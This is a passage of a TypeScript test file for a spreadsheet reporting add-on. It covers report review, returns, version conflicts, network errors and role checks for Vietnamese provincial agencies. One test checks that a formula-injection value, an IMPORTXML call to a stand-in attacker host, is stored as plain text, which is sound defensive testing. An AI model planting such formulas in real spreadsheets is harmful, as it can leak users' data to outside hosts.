    const started = value(review.addon.startReview(PERIOD, agency, 1, opened.head.rev));
    expect(problem(review.addon.approveReport(PERIOD, agency, 1, opened.head.rev, ""))).toBe("rev_stale");
    expect(problem(review.addon.returnReport(PERIOD, agency, 1, started.rev, "  ", null))).toBe(
      "reason_required",
    );
    expect(problem(harness.addon.sendReport(null))).toBe("report_locked");
    const approved = value(review.addon.approveReport(PERIOD, agency, 1, started.rev, ""));
    expect([approved.state, approved.counted]).toEqual(["approved", 1]);

    const pulled = value(review.addon.pullProvince(PERIOD));
    expect(pulled.tabs).toEqual([
      "Tổng hợp – Năm 2021",
      "Kết quả theo nhiệm vụ – Năm 2021",
      "Ma trận nhiệm vụ – Năm 2021",
      "Số liệu toàn tỉnh – Năm 2021",
      "Số liệu theo cơ quan – Năm 2021",
      "Khó khăn – kiến nghị – Năm 2021",
      "Chưa báo cáo – Năm 2021",
    ]);
    const rows = Array.from({ length: 200 }, (_, index) =>
      [2, 3, 4, 5, 6].map((column) => held(review, pulled.tabs[5] ?? "", index + 1, column)),
    );
    expect(rows).toContainEqual([
      ["Khó khăn, vướng mắc", null],
      ["Hội Nông dân tỉnh", null],
      ["II.9.a", null],
      ['=IMPORTXML("https://attacker.example";"//a")', null],
      ["Báo cáo lần 1, dòng II.9.a", null],
    ]);

    value(review.addon.pullProvince(PERIOD));
    value(review.addon.openReport(PERIOD, "ubnd-ba-tri"));
    expect(review.fake.spreadsheet.sheets()).toHaveLength(12);
  });

  test("a returned report says why, takes the mended text and is sent as the next version", async () => {
    const harness = await environment.openHarness("bao-cao-ubnd-ba-tri");
    const built = value(harness.addon.buildSheet(PERIOD));
    expect([built.returned?.items, built.returned?.reason]).toEqual([
      [
        {
          table: "Nhiệm vụ",
          duty: "II.3.a.1",
          title: expect.any(String),
          column: "",
          place: { table: "duties", row: "II.3.a.1" },
          reason: "Nêu rõ kết quả và bổ sung văn bản minh chứng (dữ liệu minh họa).",
        },
      ],
      "Đề nghị chỉnh lý mục II.3.a.1 (dữ liệu minh họa).",
    ]);
    const sheet = readSheet(harness, TAB);
    expect(sheet.text("II.3.a.1", "result")).toContain("minh họa");
    const [other] = [await environment.openHarness("bao-cao-ubnd-ba-tri")];
    value(other.addon.buildSheet(PERIOD));
    sheet.type("II.3.a.1", "result", "Đã bổ sung kết quả");
    expect(value(harness.addon.sendReport(null)).version).toBe(2);

    const late = readSheet(other, TAB);
    late.type("II.3.a.1", "result", "Bản của đồng nghiệp");
    expect(problem(other.addon.sendReport(null))).toBe("sheet_behind");
    value(other.addon.home());
    expect(problem(other.addon.sendReport(null))).toBe("sheet_behind");
    expect(value(other.addon.buildSheet(PERIOD)).notes).toEqual([
      "Có 1 ô khác với bản đã gửi gần nhất, xem trang tính “Khác bản đã gửi”.",
    ]);
    expect([1, 2, 3, 4, 5].map((column) => held(other, "Khác bản đã gửi", 4, column)[0])).toEqual([
      "Nhiệm vụ",
      "II.3.a.1",
      "Kết quả thực hiện / lý do không phát sinh",
      "Bản của đồng nghiệp",
      "Đã bổ sung kết quả",
    ]);
    expect(readSheet(other, TAB).text("II.3.a.1", "result")).toBe("Bản của đồng nghiệp");
    expect(value(other.addon.sendReport(null)).version).toBe(3);
  });
});

describe("bad days", () => {
  const FAULTS: [string, Parameters<Harness["intercept"]>[0], string][] = [
    [
      "no network",
      () => {
        throw new Error("no route");
      },
      "offline",
    ],
    ["too many requests", () => ({ status: 429, headers: {}, body: "slow down" }), "busy"],
    ["a gateway's error page", () => ({ status: 502, headers: {}, body: "<html>Bad gateway" }), "busy"],
    ["an answer that is no JSON", () => ({ status: 200, headers: {}, body: "<html>login" }), "unexpected"],
    ["somebody else's refusal", () => ({ status: 418, headers: {}, body: '{"error":1}' }), "unexpected"],
  ];
  test.each(FAULTS)("%s is told in one sentence", async (_, handler, code) => {
    const harness = await environment.openHarness(FINANCE);
    harness.intercept(handler);
    expect(problem(harness.addon.buildSheet(PERIOD))).toBe(code);
    expect(harness.fake.spreadsheet.sheets()).toHaveLength(1);
  });

  test("another run at work on the file is waited for, not doubled", async () => {
    const { harness } = await withSheet(FINANCE);
    harness.fake.lock.taken = true;
    expect(problem(harness.addon.sendReport(null))).toBe("locked");
  });

  test("who is not registered is told so", async () => {
    const harness = await environment.openHarness(FINANCE);
    harness.intercept(() => ({
      status: 403,
      headers: {},
      body: JSON.stringify({ code: "account_unknown", title: "Chưa đăng ký", detail: "Liên hệ." }),
    }));
    expect(harness.addon.home()).toEqual({
      ok: false,
      problem: { code: "account_unknown", title: "Chưa đăng ký", detail: "Liên hệ." },
    });
  });

  test("a viewer has no sheet of an agency's to build, check or send", async () => {
    const harness = await environment.openHarness("theo-doi");
    expect(problem(harness.addon.buildSheet(PERIOD))).toBe("no_agency");
    expect(problem(harness.addon.checkSheet(null))).toBe("no_sheet");
    expect(problem(harness.addon.sendReport(null))).toBe("no_sheet");
    expect(problem(harness.addon.listReports(PERIOD))).toBe("none");
    expect(problem(harness.addon.startReview(PERIOD, "ubnd-ba-tri", 1, 3))).toBe("role_forbidden");
  });
});
